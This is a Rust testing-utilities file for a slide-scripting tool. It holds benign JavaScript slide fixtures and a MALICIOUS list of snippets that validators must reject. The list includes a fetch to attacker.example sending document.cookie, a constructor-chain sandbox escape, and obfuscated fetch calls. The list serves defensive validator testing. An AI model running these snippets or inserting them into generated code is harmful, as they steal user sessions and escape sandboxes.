//! Testing utilities for DeckScript workspace
//!
//! Shared snippet fixtures and helpers.

#![allow(missing_docs)]

use deckscript_dispatch::{presentation_constants, Deck, Element};
use deckscript_interp::{CallRecord, Environment, Extractor};

pub const TITLE_SLIDE: &str = r##"
const slide = pptx.addSlide({background: {color: "#0F172A"}});
slide.addText("Quarterly Review", {x: 0.5, y: 2, w: 9, h: 1, fontSize: 40, bold: true, color: "FFFFFF"});
slide.addText("Q3", {x: 0.5, y: 3.2, w: 9, h: 0.6, fontSize: 20, color: "94A3B8"});
"##;

pub const CARD_GRID: &str = r#"
const slide = pptx.addSlide();
const cards = [
  {title: "Speed", color: "22C55E"},
  {title: "Scale", color: "3B82F6"},
  {title: "Safety", color: "F97316"},
];
cards.forEach((card, i) => {
  const x = 0.5 + i * 3.1;
  slide.addShape(pptx.ShapeType.roundRect, {x, y: 1.5, w: 2.8, h: 2.5, fill: {color: card.color}, rectRadius: 0.1});
  slide.addText(card.title, {x, y: 1.7, w: 2.8, h: 0.5, align: "center", color: "FFFFFF"});
});
"#;

pub const TABLE_SLIDE: &str = r#"
const slide = pptx.addSlide();
const rows = [["Region", "Revenue"], ["EMEA", 120], ["APAC", 95]];
slide.addTable(rows, {x: 0.5, y: 1, w: 9, colW: [6, 3], fontSize: 14});
"#;

pub const CHART_SLIDE: &str = r#"
const slide = pptx.addSlide();
const data = [{name: "Revenue", labels: ["Q1", "Q2", "Q3"], values: [10, 14, 19]}];
slide.addChart(pptx.charts.BAR, data, {x: 1, y: 1, w: 8, h: 4, showLegend: true});
"#;

pub const COUNTED_LOOP: &str = r#"
for (let i = 0; i < 3; i++) {
  slide.addShape(pptx.shapes.RECTANGLE, {x: i, y: 1, w: 0.8, h: 0.8});
}
"#;

/// Snippets every validator strategy must reject
pub const MALICIOUS: &[&str] = &[
    r#"fetch("https://attacker.example/steal?d=" + document.cookie);"#,
    r#"const x = new XMLHttpRequest(); x.open("GET", "/");"#,
    r#"eval("slide.addText('x', {})");"#,
    r#"localStorage.setItem("k", "v");"#,
    r#"chrome.storage.local.get(null, (items) => {});"#,
    r#"slide.constructor.constructor("return this")();"#,
    r#"pptx["writeFile"]({fileName: "out.pptx"});"#,
    r#"window["fe" + "tch"]("https://x");"#,
];

/// All well-formed fixtures
pub const BENIGN: &[&str] = &[TITLE_SLIDE, CARD_GRID, TABLE_SLIDE, CHART_SLIDE, COUNTED_LOOP];

/// Environment with the presentation constants bound to `pptx`
pub fn env_with_constants() -> Environment {
    Environment::with_globals([("pptx", presentation_constants())])
}

/// Extract with default limits against [`env_with_constants`]
pub fn records_for(src: &str) -> Vec<CallRecord> {
    Extractor::default().extract(src, env_with_constants()).records
}

/// Element kinds per slide, in insertion order
pub fn element_kinds(deck: &Deck) -> Vec<Vec<&'static str>> {
    deck.slides
        .iter()
        .map(|slide| {
            slide
                .elements
                .iter()
                .map(|e| match e {
                    Element::Text { .. } => "text",
                    Element::Shape { .. } => "shape",
                    Element::Image { .. } => "image",
                    Element::Table { .. } => "table",
                    Element::Chart { .. } => "chart",
                })
                .collect()
        })
        .collect()
}
